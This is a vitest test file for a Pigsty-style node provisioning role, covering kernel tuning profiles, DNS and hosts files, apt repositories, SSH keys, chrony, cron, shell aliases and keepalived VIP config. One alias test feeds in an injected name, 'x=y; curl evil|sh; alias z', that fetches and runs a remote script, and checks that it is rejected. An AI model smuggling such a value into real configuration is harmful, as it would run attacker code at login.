import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { renderTemplate, templatePath } from '../../modules/template.ts';
import { controllerPublicKeys, exchangedKeys } from '../../roles/node/admin-keys.ts';
import { aliasScript } from '../../roles/node/alias-script.ts';
import { chronySources } from '../../roles/node/chrony-files.ts';
import { crontabContent } from '../../roles/node/crontab.ts';
import { dnsRecords, etcHosts, HOSTS_BASE, metaRecords, nameserversOf, readBack, resolvConf } from '../../roles/node/dns-files.ts';
import { hugepages, tuneSysctl } from '../../roles/node/kernel-params.ts';
import { aptSourceLines, defaultPackages, repoModules, splitPackages } from '../../roles/node/node-packages.ts';
import type { NodeVars } from '../../roles/node/node-vars.ts';
import { vipPeers } from '../../roles/node/vip-peers.ts';
import { canSetClock, containerOf } from '../../roles/node/virt-probe.ts';
import { nodeExporterEnv } from '../../roles/node_monitor/node-exporter-env.ts';
import { PARAM_DEFAULTS } from '../../roles/params.ts';

const GiB = 1024 ** 3;

describe('tuning profile kernel parameters', () => {
  const facts = { ...PARAM_DEFAULTS, node_mem_bytes: 8 * GiB };

  it('sizes shared memory at 75 % of RAM, in pages and bytes', () => {
    const s = tuneSysctl('oltp', facts);
    expect(s['kernel.shmmax']).toBe(6 * GiB);
    expect(s['kernel.shmall']).toBe((8 * GiB * 0.75) / 4096);
    expect(tuneSysctl('oltp', { ...facts, node_pages: 1000 })['kernel.shmall']).toBe(750);
  });

  it('has the OLTP values: low dirty ratios, fast keepalive, short fin timeout, time-wait reuse', () => {
    const s = tuneSysctl('oltp', facts);
    expect(s).toMatchObject({
      'vm.swappiness': 1,
      'vm.overcommit_memory': 0,
      'vm.overcommit_ratio': 100,
      'vm.dirty_background_ratio': 3,
      'vm.dirty_ratio': 15,
      'vm.dirty_expire_centisecs': 500,
      'vm.dirty_writeback_centisecs': 100,
      'fs.file-max': 16777216,
      'net.core.rmem_max': 4194304,
      'net.ipv4.tcp_rmem': '4096 87380 16777216',
      'net.ipv4.tcp_syncookies': 0,
      'net.ipv4.tcp_tw_reuse': 1,
      'net.ipv4.tcp_keepalive_time': 60,
      'net.ipv4.tcp_fin_timeout': 15,
      'net.netfilter.nf_conntrack_max': 524288,
      'kernel.sem': '4096 524288 2048 8192',
    });
    expect(Object.keys(s)).toHaveLength(46);
  });

  it('has the OLAP values: big buffers, high dirty ratios, slow keepalive, overcommit left to the kernel', () => {
    const s = tuneSysctl('olap', facts);
    expect(s).toMatchObject({
      'vm.dirty_background_ratio': 10,
      'vm.dirty_ratio': 80,
      'fs.file-max': 134217728,
      'net.core.wmem_max': 16777216,
      'net.ipv4.udp_mem': '3145728 4194304 33554432',
      'net.ipv4.tcp_syncookies': 1,
      'net.ipv4.tcp_tw_reuse': 0,
      'net.ipv4.tcp_keepalive_time': 300,
      'net.ipv4.tcp_keepalive_intvl': 60,
      'net.ipv4.tcp_keepalive_probes': 5,
      'net.ipv4.tcp_fin_timeout': 60,
    });
    expect(s).not.toHaveProperty('vm.overcommit_memory');
    expect(s).not.toHaveProperty('vm.dirty_expire_centisecs');
  });

  it('has the CRIT values: the lowest dirty ratios and fewer SYN retries', () => {
    expect(tuneSysctl('crit', facts)).toMatchObject({
      'vm.dirty_background_ratio': 1,
      'vm.dirty_ratio': 5,
      'vm.dirty_expire_centisecs': 100,
      'net.ipv4.tcp_synack_retries': 2,
      'net.ipv4.tcp_syn_retries': 2,
      'net.ipv4.tcp_fin_timeout': 30,
      'net.ipv4.tcp_syncookies': 1,
    });
  });

  it('keeps TINY small: no message queue or semaphore settings, generous overcommit, small queues', () => {
    const s = tuneSysctl('tiny', facts);
    for (const key of ['kernel.msgmni', 'kernel.sem', 'kernel.pid_max', 'vm.dirty_expire_centisecs']) expect(s).not.toHaveProperty(key);
    expect(s).toMatchObject({
      'vm.swappiness': 10,
      'vm.overcommit_ratio': 200,
      'vm.dirty_ratio': 30,
      'net.core.somaxconn': 8192,
      'net.ipv4.tcp_max_syn_backlog': 4096,
      'net.netfilter.nf_conntrack_max': 65536,
    });
  });

  it('turns strict overcommit on for a positive node_overcommit_ratio, in every profile', () => {
    for (const p of ['oltp', 'olap', 'crit', 'tiny'] as const) {
      expect(tuneSysctl(p, { ...facts, node_overcommit_ratio: 90 })).toMatchObject({ 'vm.overcommit_memory': 2, 'vm.overcommit_ratio': 90 });
    }
  });

  it('computes hugepages from the count (capped at 90 % of RAM) or the ratio', () => {
    const mem = { ...PARAM_DEFAULTS, node_mem_bytes: 8 * GiB }; // 4096 pages of 2 MiB
    expect(hugepages(mem)).toBe(0);
    expect(hugepages({ ...mem, node_hugepage_count: 1000 })).toBe(1000);
    expect(hugepages({ ...mem, node_hugepage_count: 5000 })).toBe(Math.ceil(4096 * 0.9));
    expect(hugepages({ ...mem, node_hugepage_ratio: 0.25 })).toBe(1024);
    expect(hugepages({ ...mem, node_hugepage_ratio: 0.95 })).toBe(0);
    expect(hugepages({ ...mem, node_hugepage_count: 10, node_hugepage_ratio: 0.5 })).toBe(10);
  });
});

describe('/etc/hosts records', () => {
  const dns = dnsRecords({ admin_ip: '10.10.10.10', node_default_etc_hosts: ['${admin_ip} i.pigsty'], node_etc_hosts: ['10.10.10.11 pg-test-1 '] });

  it('substitutes ${admin_ip} and marks the static records', () => {
    expect(dns).toEqual(['10.10.10.10 i.pigsty # pigsty dns', '10.10.10.11 pg-test-1 # pigsty dns']);
    expect(
      metaRecords([
        { ip: '10.10.10.11', nodename: 'pg-test-1' },
        { ip: '10.10.10.12', nodename: undefined },
      ]),
    ).toEqual(['10.10.10.11 pg-test-1 # pigsty meta']);
  });

  it('starts a missing file from the loopback names', () => {
    expect(etcHosts(undefined, dns, [])).toBe(`${HOSTS_BASE}10.10.10.10 i.pigsty # pigsty dns\n10.10.10.11 pg-test-1 # pigsty dns\n`);
  });

  it('replaces old pigsty dns records, keeps the other lines, and adds meta records only once', () => {
    const current = '127.0.0.1 localhost\n10.0.0.1 old.pigsty # pigsty dns\n192.168.1.5 printer\n10.10.10.12 pg-test-2 # pigsty meta\n';
    const meta = ['10.10.10.12 pg-test-2 # pigsty meta', '10.10.10.13 pg-test-3 # pigsty meta'];
    const next = etcHosts(current, dns, meta);
    expect(next).toBe(
      '127.0.0.1 localhost\n192.168.1.5 printer\n10.10.10.12 pg-test-2 # pigsty meta\n10.10.10.13 pg-test-3 # pigsty meta\n' +
        '10.10.10.10 i.pigsty # pigsty dns\n10.10.10.11 pg-test-1 # pigsty dns\n',
    );
    expect(etcHosts(next, dns, meta)).toBe(next);
  });

  it('removes every pigsty dns record when there are none to write', () => {
    expect(etcHosts('a\nb # pigsty dns\n', [], [])).toBe('a\n');
  });

  it('reads back what the read command printed', () => {
    expect(readBack('missing')).toBeUndefined();
    expect(readBack('present')).toBe('');
    expect(readBack('present\n127.0.0.1 localhost')).toBe('127.0.0.1 localhost');
  });
});

describe('/etc/resolv.conf', () => {
  const base = { admin_ip: '10.10.10.10', node_dns_servers: ['${admin_ip}'], node_dns_options: ['options single-request-reopen timeout:1'] };
  const current = 'search lan\nnameserver 10.10.10.10\nnameserver 1.1.1.1\nnameserver 8.8.8.8\nnameserver 9.9.9.9\n';

  it('reads at most three nameservers', () => {
    expect(nameserversOf(current)).toEqual(['10.10.10.10', '1.1.1.1', '8.8.8.8']);
  });

  it('add: options, the configured servers, then old ones that are neither listed nor the admin node', () => {
    expect(resolvConf({ ...base, node_dns_method: 'add' }, current)).toBe(
      'options single-request-reopen timeout:1\nnameserver 10.10.10.10\nnameserver 1.1.1.1\nnameserver 8.8.8.8\n',
    );
    expect(resolvConf({ ...base, node_dns_method: 'add' }, '')).toBe('options single-request-reopen timeout:1\nnameserver 10.10.10.10\n');
  });

  it('overwrite: drops the old nameservers, and is stable on its own output', () => {
    const once = resolvConf({ ...base, node_dns_method: 'overwrite' }, current);
    expect(once).toBe('options single-request-reopen timeout:1\nnameserver 10.10.10.10\n');
    expect(resolvConf({ ...base, node_dns_method: 'add' }, once)).toBe(once);
  });
});

describe('packages and repositories', () => {
  it('splits Pigsty comma lists and falls back to the Debian 12 defaults', () => {
    expect(splitPackages(['a,b', 'c d', ''])).toEqual(['a', 'b', 'c', 'd']);
    expect(defaultPackages({ node_default_packages: ['x,y'] } as NodeVars)).toEqual(['x', 'y']);
    expect(defaultPackages({ node_packages_default: ['z'] } as NodeVars)).toEqual(['z']);
    const d12 = defaultPackages({} as NodeVars);
    expect(d12).toContain('chrony');
    expect(d12).not.toContain('pig');
    expect(repoModules({ node_repo_modules: 'local, node,,pgsql' } as NodeVars)).toEqual(['local', 'node', 'pgsql']);
  });

  it('writes apt lines for the entries of a module that match the release and architecture, with region URLs', () => {
    const repos: NonNullable<NodeVars['repo_upstream']> = [
      {
        name: 'pgdg',
        description: 'PGDG',
        module: 'pgsql',
        releases: [11, 12],
        arch: ['x86_64'],
        baseurl: {
          default: 'http://apt.postgresql.org/pub/repos/apt/ ${distro_codename}-pgdg main',
          china: 'http://mirror/pgdg ${distro_codename}-pgdg main',
        },
      },
      { name: 'old', module: 'pgsql', releases: [10], arch: ['x86_64'], baseurl: { default: 'http://old' } },
      { name: 'local', module: 'local', releases: [12], arch: ['x86_64'], baseurl: { default: 'http://${admin_ip}/pigsty ./' } },
    ];
    const v = {
      ...PARAM_DEFAULTS,
      os_version: 12,
      os_arch: 'x86_64' as const,
      os_codename: 'bookworm',
      os_vendor: 'debian',
      admin_ip: '10.10.10.10',
    };
    expect(aptSourceLines('pgsql', repos, v)).toEqual([
      '# pgdg: PGDG\ndeb [trusted=yes] http://apt.postgresql.org/pub/repos/apt/ bookworm-pgdg main',
    ]);
    expect(aptSourceLines('pgsql', repos, { ...v, region: 'china' })[0]).toContain('http://mirror/pgdg bookworm-pgdg main');
    expect(aptSourceLines('local', repos, v)[0]).toContain('deb [trusted=yes] http://10.10.10.10/pigsty ./');
    expect(aptSourceLines('pgsql', repos, { ...v, os_arch: 'aarch64' })).toEqual([]);
  });
});

describe('admin, time and cron', () => {
  it('collects the admin keys the play hosts registered', () => {
    const hostvars = {
      a: { node_admin_pubkey: { changed: false, failed: false, stdout: 'ssh-rsa AAAA dba@a' } },
      b: { node_admin_pubkey: { changed: false, failed: false, stdout: '' } },
      c: {},
    };
    expect(exchangedKeys({ hostvars } as unknown as NodeVars)).toEqual(['ssh-rsa AAAA dba@a']);
  });

  it('reads the controller keys from id*.pub files only', () => {
    const dir = mkdtempSync(join(tmpdir(), 'keys-'));
    writeFileSync(join(dir, 'id_ed25519.pub'), 'ssh-ed25519 AAAA me@ctl\n');
    writeFileSync(join(dir, 'id_ed25519'), 'PRIVATE');
    writeFileSync(join(dir, 'other.pub'), 'ssh-rsa BBBB other');
    expect(controllerPublicKeys(dir)).toEqual(['ssh-ed25519 AAAA me@ctl']);
    expect(controllerPublicKeys(join(dir, 'missing'))).toEqual([]);
  });

  it('lists chrony sources with ${admin_ip} replaced, except the admin node syncing from itself', () => {
    const servers = ['pool pool.ntp.org iburst', 'server ${admin_ip} iburst'];
    expect(chronySources({ node_ntp_servers: servers, admin_ip: '10.10.10.10', inventory_hostname: '10.10.10.11' })).toEqual([
      'pool pool.ntp.org iburst',
      'server 10.10.10.10 iburst',
    ]);
    expect(chronySources({ node_ntp_servers: servers, admin_ip: '10.10.10.10', inventory_hostname: '10.10.10.10' })).toEqual([
      'pool pool.ntp.org iburst',
    ]);
  });

  it('renders chrony.conf from the sources', () => {
    const text = renderTemplate(templatePath(new URL('../../roles/node/role.ts', import.meta.url).href, 'chrony.conf.hbs'), {
      nodename: 'pg-test-1',
      inventory_hostname: '10.10.10.11',
      chrony_sources: ['server 10.10.10.10 iburst'],
    });
    expect(text).toContain('\nserver 10.10.10.10 iburst\n');
    expect(text).toContain('driftfile /var/lib/chrony/drift');
  });

  it('writes the whole /etc/crontab and the alias script', () => {
    expect(crontabContent(['0 1 * * * root /bin/true'])).toMatch(/^SHELL=\/bin\/bash\n[\s\S]*\n0 1 \* \* \* root \/bin\/true\n$/);
    expect(aliasScript({ ports: 'ss -ltnp', q: "echo 'x'" })).toContain(`alias ports='ss -ltnp'\nalias q='echo '"'"'x'"'"''\n`);
    // the name is written unquoted: one that could run a command at login is refused
    expect(() => aliasScript({ 'x=y; curl evil|sh; alias z': 'ls' })).toThrow('node_aliases: "x=y; curl evil|sh; alias z" is not an alias name');
    expect(() => aliasScript({ 'll\nid': 'ls' })).toThrow('node_aliases: "ll\\nid" is not an alias name');
  });

  it('reads the virtualization probe', () => {
    const v = (stdout: string) => ({ node_virt: { changed: false, failed: false, stdout } }) as unknown as NodeVars;
    expect(containerOf(v('virt=systemd-nspawn\nsys_time=no'))).toBe('systemd-nspawn');
    expect(canSetClock(v('virt=systemd-nspawn\nsys_time=no'))).toBe(false);
    expect(containerOf(v('virt=none\nsys_time=yes'))).toBeUndefined();
    expect(canSetClock(v('virt=none\nsys_time=yes'))).toBe(true);
    expect(canSetClock({} as NodeVars)).toBe(true);
  });

  it('configures node_exporter through ARGS', () => {
    expect(nodeExporterEnv({ node_exporter_port: 9200, node_exporter_options: '--collector.systemd', exporter_metrics_path: '/metrics' })).toContain(
      'ARGS="--web.listen-address=:9200 --web.telemetry-path=/metrics --collector.systemd"',
    );
  });
});

describe('node VIP', () => {
  const hostvars = {
    '10.0.0.1': { vip_address: '10.0.0.100' },
    '10.0.0.2': { vip_address: '10.0.0.100' },
    '10.0.0.3': { vip_address: '10.0.0.200' },
  };

  it('peers with the other hosts of the same vip_address', () => {
    expect(vipPeers({ hostvars, inventory_hostname: '10.0.0.1', vip_address: '10.0.0.100' } as unknown as NodeVars)).toEqual(['10.0.0.2']);
  });

  it('renders keepalived.conf with priority, nopreempt and peers', () => {
    const render = (extra: Record<string, unknown>) =>
      renderTemplate(templatePath(new URL('../../roles/node/role.ts', import.meta.url).href, 'keepalived.conf.hbs'), {
        nodename: 'n1',
        inventory_hostname: '10.0.0.1',
        node_cluster: 'proxy',
        vip_address: '10.0.0.100',
        vip_vrid: 128,
        vip_interface: 'eth0',
        vip_peers: ['10.0.0.2'],
        vip_password: 'proxy-128',
        vip_preempt: false,
        vip_role: 'master',
        ...extra,
      });
    const master = render({});
    expect(master).toContain('state MASTER');
    expect(master).toContain('priority 128');
    expect(master).toContain('nopreempt');
    expect(master).toMatch(/unicast_peer \{\n\s+10\.0\.0\.2\n\s+\}/);
    const backup = render({ vip_role: 'backup', vip_preempt: true });
    expect(backup).toContain('priority 100');
    expect(backup).not.toContain('nopreempt');
  });
});
